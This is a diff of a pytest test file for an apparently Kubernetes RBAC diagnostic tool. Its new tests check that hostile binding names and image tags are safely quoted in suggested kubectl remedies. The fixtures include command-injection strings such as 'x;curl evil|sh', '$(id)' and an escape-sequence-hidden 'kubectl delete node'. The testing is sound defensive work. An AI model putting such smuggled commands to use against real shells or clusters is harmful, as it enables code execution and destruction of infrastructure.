@@ -1,5 +1,6 @@
 """What stands still in a cluster: definition, namespace, rights, policies, parts."""
 
+import shlex
 from dataclasses import replace
 from typing import Any
 
@@ -7,15 +8,17 @@ import pytest
 
 from podiatrist.doctor.examine import examine, is_broken
 from podiatrist.doctor.installation import Binding, Installation, Version
-from podiatrist.doctor.rights import NOBODY, Right, username
+from podiatrist.doctor.rights import NOBODY, Right, Rights, username
 from podiatrist.doctor.verdict import Hidden, Level, Verdict
 from tests.unit.doctor.installations import (
+    COMMON,
     CRD_KEY,
     complaint,
     complaints,
     edited,
     well,
     without,
+    workload,
 )
 
 
@@ -188,6 +191,33 @@ def test_a_binding_that_was_not_shipped_is_to_be_deleted() -> None:
     assert "to ServiceAccount podiatrist/executor" in said
 
 
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("x;curl evil|sh", ["x;curl evil|sh"]),
+        ("$(id)'`id`", ["$(id)'`id`"]),
+        ("--all", ["--", "--all"]),
+        ("x\n\x1b[2Kkubectl delete node a", ["x\ufffd\ufffd[2Kkubectl delete node a"]),
+    ],
+)
+def test_a_name_that_is_a_command_is_one_word_of_the_remedy(name: str, words: list[str]) -> None:
+    """Whoever may bind in his own namespace chooses the name, and an admin types the remedy."""
+    good = well()
+    assert isinstance(good.bindings, list)
+    subject = {"kind": "ServiceAccount", "namespace": "podiatrist", "name": "executor"}
+    more = Binding("RoleBinding", "shop", name, "ClusterRole view", [subject])
+    remedy = complaint(replace(good, bindings=[*good.bindings, more])).remedy
+    assert remedy is not None
+    assert remedy.isprintable()
+    assert shlex.split(remedy) == ["kubectl", "-n", "shop", "delete", "rolebinding", *words]
+
+
+def test_an_image_that_is_a_command_names_no_version() -> None:
+    image = "podiatrist:1.0;curl evil|sh"
+    both = {role: workload(role, image=image) for role in ("operator", "executor")}
+    assert not complaints(replace(well(), workloads=both))
+
+
 def test_a_binding_that_names_somebody_else_as_well_is_told_of() -> None:
     other = {"kind": "User", "name": "eve"}
     lax = edited("ClusterRoleBinding", "podiatrist-executor",
@@ -208,12 +238,69 @@ def test_what_only_the_api_server_knows_is_told_but_not_what_everybody_may() -> 
     user = username("operator")
     secret = Right("default", "get", "secrets")
     everybody = Right("default", "get", "clustertrustbundles")
-    grown = good.effective[user] | {secret, everybody}
+    seen = good.effective[user]
+    assert isinstance(seen, frozenset)
+    grown = seen | {secret, everybody}
     given = replace(good, effective={**good.effective, user: grown,
                                      NOBODY: frozenset({everybody})})  # fmt: skip
     said = broken(given, "lets operator do more than was shipped: get secrets",
                   f"kubectl auth can-i --list --as={user} -n podiatrist").seen  # fmt: skip
     assert "clustertrustbundles" not in said
+
+
+def bound_to_all(rights: Rights | Hidden, namespace: str = "shop") -> Installation:
+    """Return the installation after somebody bound a role to everybody in a namespace."""
+    good = well()
+    assert isinstance(good.bindings, list)
+    group = {"kind": "Group", "name": "system:authenticated"}
+    more = Binding("RoleBinding", namespace, "help", "ClusterRole x", [group], rights)
+    return replace(good, bindings=[*good.bindings, more])
+
+
+@pytest.mark.parametrize(
+    "right",
+    [
+        Right("shop", "patch", "deployments.apps"),
+        Right("shop", "*", "*.*"),
+        Right("shop", "create", "pods"),
+        Right("shop", "get", "secrets"),
+        Right("shop", "list", "*"),
+    ],
+)
+def test_what_is_bound_to_everybody_is_bound_to_us(right: Right) -> None:
+    found = complaint(bound_to_all(frozenset({right})))
+    assert found.level is Level.WARNING
+    assert f"RoleBinding help grants to every account, and so to ours: {right.told}" in found.seen
+    assert found.remedy == "kubectl -n shop get -o yaml rolebinding help"
+
+
+def test_what_every_kubernetes_grants_to_everybody_is_no_news() -> None:
+    assert not complaints(bound_to_all(COMMON))
+
+
+def test_a_role_for_everybody_that_cannot_be_read_may_grant_anything() -> None:
+    found = complaint(bound_to_all(Hidden("get roles -n shop")))
+    assert (found.level, found.seen) == (
+        Level.UNKNOWN, "cannot tell: you may not get roles -n shop"
+    )  # fmt: skip
+
+
+def test_what_the_api_server_lets_everybody_change_is_a_warning_without_a_binding() -> None:
+    good = well()
+    write = Right("default", "delete", "pods")
+    lax = {user: rights | {write} for user, rights in good.effective.items()
+           if isinstance(rights, frozenset)}  # fmt: skip
+    found = complaint(replace(good, effective=lax))
+    assert found.level is Level.WARNING
+    assert "lets every account, and so ours: delete pods in namespace default" in found.seen
+
+
+def test_who_cannot_ask_in_our_accounts_names_is_told_that_he_cannot_tell() -> None:
+    good = well()
+    hidden = Hidden("impersonate serviceaccounts -A")
+    found = complaint(replace(good, effective=dict.fromkeys(good.effective, hidden)))
+    assert (found.check, found.level) == ("rights", Level.UNKNOWN)
+    assert found.remedy == "kubectl auth can-i impersonate serviceaccounts -A"
 
 
 def test_without_the_executors_file_podiatrist_only_diagnoses_and_that_is_a_choice() -> None:
@@ -226,7 +313,6 @@ def test_without_the_executors_file_podiatrist_only_diagnoses_and_that_is_a_choi
         bindings=[b for b in good.bindings if "executor" not in b.name]
         if isinstance(good.bindings, list)
         else good.bindings,
-        effective={},
     )
     found = complaint(left)
     assert (found.check, found.level) == ("execution", Level.NOTE)
@@ -250,7 +336,7 @@ def test_a_user_who_may_not_look_at_anything_sees_nothing_broken() -> None:
         good,
         found=dict.fromkeys(good.found, hidden),
         bindings=hidden,
-        effective={},
+        effective=dict.fromkeys(good.effective, hidden),
         workloads={"operator": hidden, "executor": hidden},
         pods=hidden,
         leases={"operator": hidden, "executor": hidden},
